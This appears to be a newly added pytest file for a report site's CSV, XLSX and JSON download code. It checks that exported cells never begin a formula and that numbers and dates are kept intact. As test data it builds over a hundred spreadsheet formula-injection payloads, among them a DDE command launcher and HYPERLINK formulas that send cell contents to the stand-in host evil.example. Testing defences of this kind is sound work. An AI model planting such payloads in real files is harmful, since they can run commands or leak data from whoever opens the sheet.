@@ -1,0 +1,114 @@
+"""Files that readers take away: no cell runs, numbers stay numbers."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import math
+from datetime import UTC, date, datetime
+from decimal import Decimal
+
+import openpyxl
+import pytest
+
+from pipelines.report_site.downloads import csv_bytes, json_bytes, safe_cell, xlsx_bytes
+
+COMMANDS = (
+    "1+1",
+    "cmd|' /C calc'!A0",
+    'HYPERLINK("http://evil.example?x="&A1,"go")',
+    "SUM(A1:A9)",
+    "@SUM(1)",
+    "IMPORTXML(1)",
+)
+STARTS = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t=",
+    "\r=",
+    "\n=",
+    " =",
+    "\u00a0=",
+    "  +",
+    "=\t",
+    "＝",
+    "＋",
+    "－",
+    "＠",
+    "-@",
+    "+=",
+    "=-",
+    "@=",
+    "==",
+)
+PAYLOADS = [start + command for start in STARTS for command in COMMANDS]
+MOMENT = datetime(2026, 11, 23, 6, 10, tzinfo=UTC)
+
+
+def test_there_are_120_formula_payloads():
+    assert len(PAYLOADS) >= 120
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_csv_cell_begins_a_formula(payload):
+    rows = list(csv.reader(io.StringIO(csv_bytes(["a"], [[payload]]).decode("utf-8-sig"), newline="")))
+    assert rows[1][0] == "'" + payload
+
+
+def test_no_workbook_cell_is_a_formula_or_a_link():
+    book = openpyxl.load_workbook(
+        io.BytesIO(xlsx_bytes({"=t[1]/x": (["name"], [[p] for p in PAYLOADS])}, MOMENT, "=t"))
+    )
+    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
+    assert {cell.data_type for cell in cells} == {"s"}
+    assert not any(cell.hyperlink for cell in cells)
+    assert len(cells) == len(PAYLOADS)
+
+
+NUMBERS = [0, -1, 2.5, -0.125, Decimal("-12.500000000"), Decimal("1234567.89"), 10**12]
+
+
+@pytest.mark.parametrize("number", NUMBERS)
+def test_numbers_are_not_altered(number):
+    assert float(str(safe_cell(number))) == float(number)
+    assert json.loads(json_bytes(["n"], [[number]]))[0]["n"] == float(number)
+    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"t": (["n"], [[number]])}, MOMENT, "t")))
+    assert book.active["A2"].value == float(number)
+
+
+def test_dates_and_gaps():
+    row = [date(2026, 11, 22), MOMENT, None, math.nan, True]
+    assert csv_bytes(["a", "b", "c", "d", "e"], [row]).decode("utf-8-sig").split("\r\n")[1] == (
+        "2026-11-22,2026-11-23T06:10:00+00:00,,,True"
+    )
+    parsed = json.loads(json_bytes(["a", "b", "c", "d", "e"], [row]))[0]
+    assert parsed == {"a": "2026-11-22", "b": "2026-11-23T06:10:00+00:00", "c": None, "d": None, "e": True}
+    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"t": (list("abcde"), [row])}, MOMENT, "t")))
+    assert [cell.value for cell in book.active[2]] == [
+        datetime(2026, 11, 22),
+        datetime(2026, 11, 23, 6, 10),
+        None,
+        None,
+        True,
+    ]
+
+
+def test_equal_tables_give_equal_workbooks():
+    sheets = {"A": (["x"], [[1]]), "a": (["y"], [["b"]]), "x" * 40: (["z"], [])}
+    assert xlsx_bytes(sheets, MOMENT, "t") == xlsx_bytes(sheets, MOMENT, "t")
+
+
+def test_a_page_offers_its_tables(built):
+    page = (built.out_dir / "channels/linkedin_ads/index.html").read_text(encoding="utf-8")
+    links = [one.split('"')[0] for one in page.split('href="../../data/tables/')[1:]]
+    assert {link.rsplit(".")[-1] for link in links} == {"csv", "xlsx"}
+    workbook = next(link for link in links if link.endswith(".xlsx"))
+    book = openpyxl.load_workbook(built.out_dir / "data/tables" / workbook)
+    campaigns = book["campaigns"]
+    assert [cell.value for cell in campaigns[1]][:3] == ["campaign_name", "account_name", "spend"]
+    assert campaigns["A5"].value == '=HYPERLINK("http://evil.example","x")'
+    assert campaigns["A5"].data_type == "s"
+    assert isinstance(campaigns["C2"].value, int | float)
